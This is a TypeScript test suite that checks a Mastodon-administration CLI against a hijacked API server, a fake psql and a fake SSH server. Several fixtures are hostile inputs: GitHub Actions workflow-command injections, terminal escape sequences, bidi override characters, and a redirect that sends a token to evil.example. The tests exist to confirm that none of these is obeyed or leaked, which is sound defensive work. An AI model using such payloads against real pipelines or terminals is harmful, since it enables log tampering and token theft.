import type { Farm } from '../support/github-instance.ts'
import { once } from 'node:events'
import { createServer, type AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parse, stringify } from 'yaml'
import { withFaults, type Faulty } from '../testkit/fault.ts'
import { call } from '../support/cli.ts'
import { LEDGER_KEY } from '../support/github-instance.ts'
import { git, put } from '../support/git.ts'
import { expectInert, expectNoControls } from '../support/github-html.ts'
import { fakePrograms } from '../support/programs.ts'
import { commands, said, type Ran } from '../support/run-output.ts'
import { appliedFarm, onFarm, SLOW, CONFIG } from '../support/content-attacks.ts'

let herd: Farm
beforeAll(async () => {
  herd = await appliedFarm()
})
afterAll(async () => herd[Symbol.asyncDispose]())

const { night } = onFarm(() => herd)

describe('a server that somebody took over', SLOW, () => {
  let faulty: Faulty | undefined
  let config = ''
  beforeAll(() => {
    config = herd.file(CONFIG)
  })
  afterAll(async () => {
    await faulty?.close()
    await herd.hub.act.push({ by: 'ann', branch: 'main', files: { [CONFIG]: `${config}\n` } })
    herd.events.length = 0
  })

  /** From now on the API answers lists in such a way. */
  async function answering(
    status: number,
    body: string,
    headers: { readonly [name: string]: string } = { 'content-type': 'application/json' },
  ): Promise<void> {
    await faulty?.close()
    faulty = await withFaults(herd.sandbox, [
      { match: { path: /\/api\/v1\/admin/ }, fault: { kind: 'answer', status, headers, body } },
    ])
    const { mastodon, ...config } = parse(herd.file(CONFIG))
    const { database: _database, ...connections } = mastodon
    await herd.hub.act.push({
      by: 'ann',
      branch: 'main',
      files: {
        [CONFIG]: stringify({ ...config, mastodon: { ...connections, api: { ...connections.api, url: faulty.url } } }),
      },
    })
    herd.events.length = 0
  }

  const LIE =
    'busy\n::add-mask::follow\n::error file=instance/rules.yaml,line=1::Merge this\n' +
    '\u001b[2K\u001b[1AAll is well. Ask hazel@herd.example at 203.0.113.9'

  it('and makes us wait with words that the runner would obey is not obeyed, and names nobody in the log', async () => {
    await answering(503, JSON.stringify({ error: LIE }))
    const { job } = await night()
    expect(job.stderr).toContain('Waiting 2 s')
    expect(commands(job)).toEqual([])
    expect(job.stdout + job.stderr).not.toMatch(/^::error file=instance\/rules.yaml,line=1::Merge this/m)
    expect(job.stdout + job.stderr).not.toMatch(/hazel@herd|203\.0\.113\.9/)
    expectNoControls(job.stderr)
  })

  it('and redirects with the token in the address gets it nowhere, and puts no address into the log', async () => {
    const { plan } = herd.sandbox.tokens
    await answering(302, '', {
      location: `https://evil.example/?token=${encodeURIComponent(plan)}&to=hazel@herd.example`,
    })
    const { job, body } = await night()
    expect(said(job, body)).not.toContain(plan)
    expect(said(job, body)).not.toMatch(/hazel@herd/)
    await answering(302, '', {
      location: `https://evil.example/${plan.slice(0, 18)}/${plan.slice(18, 30)}/?to=hazel@herd.example`,
    })
    const split = await night()
    expect(said(split.job, split.body)).not.toMatch(/hazel@herd/)
  })

  it('and complains at length is quoted in a line', async () => {
    await answering(403, JSON.stringify({ error: `no ${'@everyone ##[add-path]x '.repeat(200_000)}` }))
    const { job, body } = await night()
    expect(job.stderr.length + job.stdout.length).toBeLessThan(60_000)
    expect(commands(job)).toEqual([])
    expectInert(body, {
      links: ['https://github.com/'],
      comments:
        /^<!-- (?:(?:adopt|restore) [a-z-]+\/[\w.!~*'():/%-]*|leave [a-z-]+\/[\w.!~*'():/%-]* [0-9a-f]{64}) -->$/,
      boxes: body.match(/^- \[ \] /gm)?.length ?? 0,
    })
  })

  it('and calls its application or its owner what a terminal obeys is shown as what it wrote', async () => {
    const name = '\u001b[2J\u001b]0;owned\u0007\n::add-mask::x'
    const told = await withFaults(herd.sandbox, [
      {
        match: { path: /apps\/verify_credentials/ },
        fault: {
          kind: 'answer',
          status: 200,
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ name, scopes: [] }),
        },
      },
      {
        match: { path: /accounts\/verify_credentials/ },
        fault: {
          kind: 'answer',
          status: 200,
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ username: name, role: { name, permissions: '1' } }),
        },
      },
    ])
    const dir = herd.desk()
    const config = parse(herd.file(CONFIG))
    put(dir, {
      [CONFIG]: stringify({
        ...config,
        mastodon: { ...config.mastodon, api: { ...config.mastodon.api, url: told.url } },
      }),
    })
    const { out } = await call(dir, ['token', 'check'], {
      env: { HERDBOOK_TOKEN: herd.sandbox.tokens.apply, HERDBOOK_READ_TOKEN: herd.sandbox.tokens.plan },
    })
    await told.close()
    expect(out).toContain('owned')
    expectNoControls(out)
    expect(out).not.toMatch(/^::/m)
    git(dir, 'checkout', '--quiet', '.')
  })
})

describe('connections that somebody took over', SLOW, () => {
  const PIPELINE = { GITHUB_ACTIONS: 'true', CI: 'true' }
  const HOSTILE =
    'x\n::add-mask::y ##[add-path]z\u001b[2J\u001b]0;t\u0007</details><!-- @everyone ' +
    '\u202e\u2066 hazel@herd.example 203.0.113.9'

  /** A verb at the desk, with these connections; the files of the desk are as before then. */
  async function through(connections: object, ...args: readonly string[]): Promise<Awaited<ReturnType<typeof call>>> {
    const dir = herd.desk()
    const { mastodon: _, ...config } = parse(herd.file(CONFIG))
    put(dir, { [CONFIG]: stringify({ ...config, ...connections }) })
    const ran = await call(dir, args, {
      env: {
        ...PIPELINE,
        HERDBOOK_TOKEN: herd.sandbox.tokens.apply,
        HERDBOOK_READ_TOKEN: herd.sandbox.tokens.plan,
        HERDBOOK_LEDGER_KEY: LEDGER_KEY,
      },
    })
    git(dir, 'checkout', '--quiet', '.')
    return ran
  }
  const database = (script: string): object => ({
    mastodon: { database: { over: 'local', native: { psql: fakePrograms({ psql: script }).psql } } },
  })
  const harmless = ({ stdout, stderr, out }: Awaited<ReturnType<typeof call>>): void => {
    expect(commands({ stdout, stderr } as Ran)).toEqual([])
    expectNoControls(out)
    expect(out).not.toMatch(/hazel@herd|203\.0\.113\.9/)
  }

  it('a psql that complains in words for the runner and the terminal is quoted, without whom it names', async () => {
    const ran = await through(database(`cat <<'EOT' >&2\npsql: error: ${HOSTILE}\n${HOSTILE}\nEOT\nexit 3`), 'plan')
    expect(ran.code).toBe(10)
    expect(ran.out).toContain('psql: error: x')
    harmless(ran)
  })

  it('a psql that answers no JSON, or JSON without a shape or an end, is told as that', async () => {
    for (const script of [
      `printf '%s' '${HOSTILE.replaceAll("'", '')}'`,
      'echo 7',
      `echo '{"tables":{"__proto__":[],"domain_blocks":7},"unknown":{"rules":"${'no '.repeat(20_000)}"}}'`,
      `printf '['; head -c 30000000 /dev/zero | tr '\\0' '['`,
    ]) {
      const ran = await through(database(script), 'plan')
      expect([ran.code, ran.out.length < 30_000], ran.out.slice(0, 300)).toEqual([10, true])
      harmless(ran)
    }
  })

  it('a database with such names and versions makes a plan, in every form of output, that steers nobody', async () => {
    const change = `const { tables, ...rest } = JSON.parse(require('node:fs').readFileSync(0, 'utf8'))
      const bad = ${JSON.stringify(HOSTILE)}
      const keys = ['domain', 'ip', 'public_comment', 'private_comment', 'comment', 'text', 'hint', 'name', 'username',
        'value', 'language', 'changelog']
      const twist = (value, key) => {
        if (Array.isArray(value)) return value.map((one) => twist(one, key))
        if (typeof value === 'object' && value !== null)
          return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, twist(inner, key)]))
        if (!keys.includes(key) || typeof value !== 'string') return value
        return key === 'value' ? '--- ' + JSON.stringify(bad) : value + bad
      }
      console.log(JSON.stringify({ ...rest, version: rest.version + bad, tables: twist(tables, '') }))`
    const psql = `'${herd.sandbox.database}' "$@" | '${process.execPath}' -e '${change.replaceAll("'", "'\\''")}'`
    for (const args of [
      ['plan'],
      ['plan', '--markdown'],
      ['plan', '--json'],
      ['drift'],
      ['status'],
      ['status', '--json'],
    ]) {
      const ran = await through(database(psql), ...args)
      expect(ran.code, ran.out.slice(0, 2_000)).not.toBe(1)
      expect(ran.stdout.length).toBeGreaterThan(20)
      if (args.includes('--json')) expect(JSON.parse(ran.stdout)).toMatchObject({ version: 1 })
      expect(commands({ stdout: ran.stdout, stderr: ran.stderr } as Ran)).toEqual([])
      expectNoControls(ran.out)
    }
  })

  it('what answers in the place of an SSH server is not repeated', async () => {
    const greeting = createServer(
      (socket) => void socket.on('error', () => {}).end(`${HOSTILE}\r\n::add-mask::x\r\nSSH-1.0-${HOSTILE}\r\n`),
    ).listen(0, '127.0.0.1')
    await once(greeting, 'listening')
    const ssh = {
      host: '127.0.0.1',
      port: (greeting.address() as AddressInfo).port,
      user: 'herd',
      host_key: `SHA256:${'q'.repeat(43)}`,
      key: { env: 'HERDBOOK_LEDGER_KEY' },
    }
    const ran = await through({ ssh, mastodon: { database: { over: 'ssh', native: {} } } }, 'plan')
    greeting.close()
    expect(ran.code).toBe(10)
    harmless(ran)
  })
})
